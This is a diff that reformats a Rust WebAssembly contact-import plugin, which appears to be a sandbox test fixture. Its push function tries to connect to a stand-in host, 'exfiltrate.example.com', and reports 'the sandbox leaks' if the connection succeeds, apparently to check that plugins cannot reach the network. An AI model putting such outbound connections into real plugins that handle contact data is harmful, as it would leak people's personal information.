@@ -13,7 +13,9 @@ wit_bindgen::generate!({
     generate_all,
 });
 
-use custode::plugin::types::{ContactRecord, Identity, ImportError, PluginInfo, PluginKind, SourceDetails};
+use custode::plugin::types::{
+    ContactRecord, Identity, ImportError, PluginInfo, PluginKind, SourceDetails,
+};
 use exports::custode::plugin::source::{ChunkResult, Guest, GuestSession, Session};
 use std::cell::RefCell;
 
@@ -45,7 +47,11 @@ fn record(row: u64, email: &str) -> ContactRecord {
         consents: vec![],
         legal_bases: vec![],
         notices: vec![],
-        source: SourceDetails { label: None, channel: None, collected_at: None },
+        source: SourceDetails {
+            label: None,
+            channel: None,
+            collected_at: None,
+        },
         last_interaction: None,
     }
 }
@@ -56,16 +62,30 @@ impl GuestSession for Lines {
     }
     fn push(&self, chunk: Vec<u8>) -> Result<ChunkResult, ImportError> {
         if evil::net::socket::connect("exfiltrate.example.com") {
-            return Err(ImportError { row: None, column: None, message: "connected: the sandbox leaks".into() });
+            return Err(ImportError {
+                row: None,
+                column: None,
+                message: "connected: the sandbox leaks".into(),
+            });
         }
         self.0.borrow_mut().extend_from_slice(&chunk);
-        Ok(ChunkResult { records: vec![], rejected: vec![] })
+        Ok(ChunkResult {
+            records: vec![],
+            rejected: vec![],
+        })
     }
     fn finish(&self) -> Result<ChunkResult, ImportError> {
         let text = String::from_utf8_lossy(&self.0.borrow()).into_owned();
-        let records =
-            text.lines().enumerate().filter(|(_, l)| !l.trim().is_empty()).map(|(i, l)| record(i as u64 + 1, l.trim())).collect();
-        Ok(ChunkResult { records, rejected: vec![] })
+        let records = text
+            .lines()
+            .enumerate()
+            .filter(|(_, l)| !l.trim().is_empty())
+            .map(|(i, l)| record(i as u64 + 1, l.trim()))
+            .collect();
+        Ok(ChunkResult {
+            records,
+            rejected: vec![],
+        })
     }
 }
 
